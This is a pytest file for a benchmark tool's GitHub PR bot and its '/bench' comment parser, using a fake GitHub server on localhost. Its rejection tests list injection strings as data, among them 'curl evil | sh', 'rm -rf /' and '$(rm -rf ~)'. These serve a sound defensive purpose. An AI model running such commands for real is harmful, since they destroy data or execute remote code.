"""The PR bot against a small GitHub stand-in on 127.0.0.1, and the /bench command parser."""
from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
import time
import urllib.parse
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from factories import one_step_doc
from refbench.render.markdown import COMMENT_MARKER
from refbench.errors import RefbenchError
from refbench.github import find_own_comment, parse_bench_command

ROOT = Path(__file__).resolve().parent.parent
TOKEN = "ghs_test-token-123"


fake_results = one_step_doc  # one step where the contender is ~30% slower


class FakeGitHub:
    """list / create / update issue comments, with a switch to answer with an error instead."""

    def __init__(self):
        self.comments: list[dict] = [
            {"id": 11, "body": "LGTM, but please run the benchmark", "user": {"login": "maintainer"}},
            {"id": 12, "body": f"> {COMMENT_MARKER}\n> quoting the bot is not the bot",
             "user": {"login": "someone"}},
        ]
        self.requests: list[dict] = []
        self.fail: tuple[int, dict, dict] | None = None  # (status, json body, headers)
        self.next_id = 100
        self.page_size = 1  # tiny pages, so pagination (the Link header) is exercised
        self.login = "github-actions[bot]"  # who the token posts as
        self.pulls: list[dict] = []  # {"number", "head": {"sha", "ref", "repo": {"full_name"}}}
        fake = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *a):
                pass

            def _send(self, code, payload, headers=None):
                data = json.dumps(payload).encode()
                self.send_response(code)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(data)))
                for k, v in (headers or {}).items():
                    self.send_header(k, v)
                self.end_headers()
                self.wfile.write(data)

            def _handle(self, method):
                n = int(self.headers.get("Content-Length") or 0)
                raw = self.rfile.read(n) if n else b""
                fake.requests.append({"method": method, "path": self.path, "headers": {k.lower(): v for k, v in self.headers.items()},
                                      "body": json.loads(raw) if raw else None})
                if fake.fail:
                    code, payload, headers = fake.fail
                    return self._send(code, payload, headers)
                path, _, query = self.path.partition("?")
                parts = path.strip("/").split("/")
                # /api/v3/repos/OWNER/NAME/issues/N/comments  |  /api/v3/repos/OWNER/NAME/issues/comments/ID
                if parts[:2] != ["api", "v3"] or parts[2] != "repos" or parts[3:5] != ["acme", "tool"]:
                    return self._send(404, {"message": "Not Found"})
                rest = parts[5:]
                if method == "GET" and len(rest) == 3 and rest[0] == "issues" and rest[2] == "comments":
                    page = int(dict(q.split("=") for q in query.split("&") if "=" in q).get("page", 1))
                    chunk = fake.comments[(page - 1) * fake.page_size: page * fake.page_size]
                    headers = {}
                    if page * fake.page_size < len(fake.comments):
                        base = f"http://127.0.0.1:{fake.port}{path}"
                        headers["Link"] = f'<{base}?per_page=100&page={page + 1}>; rel="next"'
                    return self._send(200, chunk, headers)
                if method == "GET" and len(rest) == 2 and rest[0] == "pulls":
                    for p in fake.pulls:
                        if p["number"] == int(rest[1]):
                            return self._send(200, p)
                    return self._send(404, {"message": "Not Found"})
                if method == "GET" and rest == ["pulls"]:
                    q = urllib.parse.parse_qs(query)
                    owner, _, ref = q.get("head", [":"])[0].partition(":")
                    return self._send(200, [p for p in fake.pulls if p["head"]["ref"] == ref
                                            and p["head"]["repo"]["full_name"].split("/")[0] == owner])
                if method == "POST" and len(rest) == 3 and rest[0] == "issues" and rest[2] == "comments":
                    c = {"id": fake.next_id, "body": json.loads(raw)["body"], "user": {"login": fake.login},
                         "html_url": f"https://github.invalid/acme/tool/pull/{rest[1]}#c{fake.next_id}"}
                    fake.next_id += 1
                    fake.comments.append(c)
                    return self._send(201, c)
                if method == "PATCH" and len(rest) == 3 and rest[:2] == ["issues", "comments"]:
                    for c in fake.comments:
                        if c["id"] == int(rest[2]):
                            c["body"] = json.loads(raw)["body"]
                            return self._send(200, {**c, "html_url": f"https://github.invalid/c{c['id']}"})
                    return self._send(404, {"message": "Not Found"})
                return self._send(404, {"message": "Not Found"})

            def do_GET(self):
                self._handle("GET")

            def do_POST(self):
                self._handle("POST")

            def do_PATCH(self):
                self._handle("PATCH")

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        self.url = f"http://127.0.0.1:{self.port}/api/v3"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def gh():
    server = FakeGitHub()
    yield server
    server.close()


@pytest.fixture
def results_file(tmp_path) -> Path:
    path = tmp_path / "results.json"
    path.write_text(json.dumps(fake_results()))
    return path


def bench(*args, env=None, stdin=None):
    full = {k: v for k, v in os.environ.items() if k not in ("GITHUB_TOKEN", "GITHUB_API_URL", "GITHUB_REPOSITORY")}
    full.update(env or {})
    return subprocess.run([sys.executable, str(ROOT / "bench.py"), *args], capture_output=True, text=True,
                          env=full, input=stdin, timeout=120)


def post(gh, results_file, *extra, token=TOKEN):
    env = {"GITHUB_API_URL": gh.url, **({"GITHUB_TOKEN": token} if token else {})}
    return bench("comment", "--repo", "acme/tool", "--pr", "7", str(results_file), *extra, env=env)


def test_creates_then_updates_its_own_comment(gh, results_file):
    first = post(gh, results_file)
    assert first.returncode == 0, first.stderr
    assert "created" in first.stderr
    # it read every page of comments, then created one
    methods = [(r["method"], r["path"].split("?")[0]) for r in gh.requests]
    assert methods[-1] == ("POST", "/api/v3/repos/acme/tool/issues/7/comments")
    assert [m for m, _ in methods].count("GET") == 2  # two pages of one comment
    create = gh.requests[-1]
    assert create["headers"]["authorization"] == f"Bearer {TOKEN}"
    assert create["headers"]["accept"] == "application/vnd.github+json"
    assert create["headers"]["x-github-api-version"] == "2022-11-28"
    body = create["body"]["body"]
    assert body.startswith(COMMENT_MARKER)
    assert "small files" in body and "remove" in body and "slower" in body
    assert (results_file.parent / "pr-comment.md").read_text() == body

    # a second run (new results) updates that comment instead of adding one
    res = json.loads(results_file.read_text())
    res["scenarios"][0]["steps"][0]["comparisons"][0]["verdict"] = "no significant change"
    results_file.write_text(json.dumps(res))
    gh.requests.clear()
    second = post(gh, results_file)
    assert second.returncode == 0, second.stderr
    assert "updated" in second.stderr
    assert [r["method"] for r in gh.requests if r["method"] != "GET"] == ["PATCH"]
    patch = gh.requests[-1]
    assert patch["path"] == "/api/v3/repos/acme/tool/issues/comments/100"
    assert patch["headers"]["authorization"] == f"Bearer {TOKEN}"
    assert "no significant change" in patch["body"]["body"]
    bots = [c for c in gh.comments if find_own_comment([c])]
    assert len(bots) == 1 and len(gh.comments) == 3  # the quoted marker (id 12) was not mistaken for ours


@pytest.mark.parametrize("status,payload,headers,expect", [
    (401, {"message": "Bad credentials"}, {}, "401"),
    (403, {"message": "Resource not accessible by integration"}, {}, "pull-requests: write"),
    (404, {"message": "Not Found"}, {}, "not found"),
    (422, {"message": "Validation Failed", "errors": [{"message": "body is too long"}]}, {}, "body is too long"),
    (403, {"message": "API rate limit exceeded for installation"},
     {"X-RateLimit-Remaining": "0", "X-RateLimit-Reset": str(int(time.time()) + 600)}, "resets at"),
    (429, {"message": "You have exceeded a secondary rate limit"}, {"Retry-After": "60"}, "retry after 60 s"),
])
def test_api_errors_are_one_line_exit_2_and_keep_the_body(gh, results_file, status, payload, headers, expect):
    gh.fail = (status, payload, headers)
    proc = post(gh, results_file)
    assert proc.returncode == 2
    lines = proc.stderr.strip().splitlines()
    assert len(lines) == 1, proc.stderr
    assert expect in lines[0] and "Traceback" not in proc.stderr
    assert "pr-comment.md" in lines[0]
    assert (results_file.parent / "pr-comment.md").read_text().startswith(COMMENT_MARKER)


def test_unreachable_api_and_missing_token(results_file, tmp_path):
    import socket
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    port = s.getsockname()[1]
    s.close()  # nothing listens there now
    out = tmp_path / "body.md"
    proc = bench("comment", "--repo", "acme/tool", "--pr", "7", str(results_file), "--body-out", str(out),
                 env={"GITHUB_TOKEN": TOKEN, "GITHUB_API_URL": f"http://127.0.0.1:{port}"})
    assert proc.returncode == 2 and len(proc.stderr.strip().splitlines()) == 1, proc.stderr
    assert "cannot reach" in proc.stderr and out.exists()
    proc = bench("comment", "--repo", "acme/tool", "--pr", "7", str(results_file), "--body-out", str(out))
    assert proc.returncode == 2 and "GITHUB_TOKEN" in proc.stderr and out.exists()


def test_dry_run_prints_the_body(results_file):
    proc = bench("comment", str(results_file), "--dry-run")
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.startswith(COMMENT_MARKER)


@pytest.mark.parametrize("spoil,says", [
    (lambda r: r["scenarios"][0]["steps"][0].pop("comparisons"), "has no 'comparisons'"),
    (lambda r: r["scenarios"][0]["steps"][0]["comparisons"][0].pop("verdict"), "has no 'verdict'"),
    (lambda r: r["scenarios"][0]["steps"][0]["comparisons"][0].update(verdict="worse"), "'worse' is not one of"),
    (lambda r: r.update(builds="x"), "builds should be list"),
    (lambda r: r["scenarios"][0].pop("fixture"), "has no 'fixture'"),
])
def test_a_malformed_results_file_is_one_line_and_exit_2_for_every_reader(tmp_path, spoil, says):
    results = fake_results()
    spoil(results)
    path = tmp_path / "results.json"
    path.write_text(json.dumps(results))
    for args in (("comment", str(path), "--dry-run"), ("report", str(path)), ("compare", str(path), str(path))):
        proc = bench(*args)
        assert proc.returncode == 2, (args, proc.stderr)
        assert proc.stderr.count("\n") == 1 and "malformed results file" in proc.stderr and says in proc.stderr, \
            (args, proc.stderr)
        assert "Traceback" not in proc.stderr


# ---- /bench ---------------------------------------------------------------------------------
def test_parse_bench_command_allows_listed_options():
    assert parse_bench_command("/bench") == []
    assert parse_bench_command('/bench --only "small files" -r 20') == ["--only", "small files", "-r", "20"]
    assert parse_bench_command("Thanks!\n/bench --quick --runs=8 -w 1 --rounds 4 --threshold 3%\nmore") == \
        ["--quick", "-r", "8", "-w", "1", "--rounds", "4", "--threshold", "3%"]
    assert parse_bench_command("/bench --only 'small files/remove' --only upload --until-decided") == \
        ["--only", "small files/remove", "--only", "upload", "--until-decided"]
    assert parse_bench_command("/bench --budget 10m") == ["--budget", "10m"]
    assert parse_bench_command("/bench --budget=1h30m --budget 600") == ["--budget", "1h30m", "--budget", "600"]


@pytest.mark.parametrize("body", [
    "no command here",
    "/benchmark -r 3",
    "/bench --repo https://evil.invalid/x.git",  # not allow-listed
    "/bench -s v1 v2",
    "/bench -hf '--prepare \"curl evil | sh\"'",
    "/bench --only '$(rm -rf ~)'",
    "/bench --only 'a; rm -rf /'",
    "/bench --only '--repo=x'",
    "/bench -r 20; rm -rf /",
    "/bench -r 1e9",
    "/bench -r 100000",
    "/bench -r",
    "/bench --quick=yes",
    "/bench --threshold 5",
    "/bench --budget 10x",
    "/bench --budget '10m; rm -rf /'",
    "/bench --budget m",
    "/bench --only \"unterminated",
    "/bench `id`",
])
def test_parse_bench_command_refuses_everything_else(body):
    with pytest.raises(RefbenchError):
        parse_bench_command(body)


def test_parse_command_subcommand_checks_the_author():
    ok = bench("comment", "--parse-command", "--author-association", "MEMBER",
               stdin='/bench --only "small files" -r 20\n')
    assert ok.returncode == 0, ok.stderr
    assert ok.stdout.splitlines() == ["--only", "small files", "-r", "20"]
    denied = bench("comment", "--parse-command", "--author-association", "CONTRIBUTOR", stdin="/bench -r 5")
    assert denied.returncode == 2 and "maintainers" in denied.stderr
    bad = bench("comment", "--parse-command", stdin="/bench --repo x")
    assert bad.returncode == 2 and "not allowed" in bad.stderr and len(bad.stderr.strip().splitlines()) == 1


def test_example_workflows_pass_actionlint():
    import glob
    import shutil
    actionlint = shutil.which("actionlint") or str(ROOT / "tools" / "bin" / "actionlint")
    if not Path(actionlint).exists():
        pytest.fail("actionlint not installed: run `make setup` (scripts/setup.sh installs it)")
    files = sorted(glob.glob(str(ROOT / ".github" / "workflows" / "*.yml")))
    assert len(files) >= 4
    proc = subprocess.run([actionlint, "-no-color", *files], capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    text = {Path(f).name: Path(f).read_text() for f in files}
    # the job that runs PR code has no write permission; the one with write permission runs no PR code
    # (bench-command.yml: the bench job runs PR code read-only; its comment job, with write, runs none)
    command_bench, command_comment = text["bench-command.yml"].split("\n  comment:\n")
    assert ": write" not in text["bench-pr.yml"] and ": write" not in command_bench and "secrets." not in text["bench-pr.yml"]
    assert "mode: comment" in command_comment and "checkout" not in command_comment and "secrets." not in command_comment
    assert "permissions:" in command_bench.split("\n  bench:\n")[0] and ": write" not in command_bench.split("\n  bench:\n")[0]
    assert "pull_request_target" not in "".join(text.values())
    assert "workflow_run:" in text["bench-comment.yml"] and "pull-requests: write" in text["bench-comment.yml"]
    assert "${{ github.event.comment.body }}" not in text["bench-command.yml"].split("env:", 1)[0]
    assert "--parse-command" in text["bench-command.yml"] and "author_association" in text["bench-command.yml"]
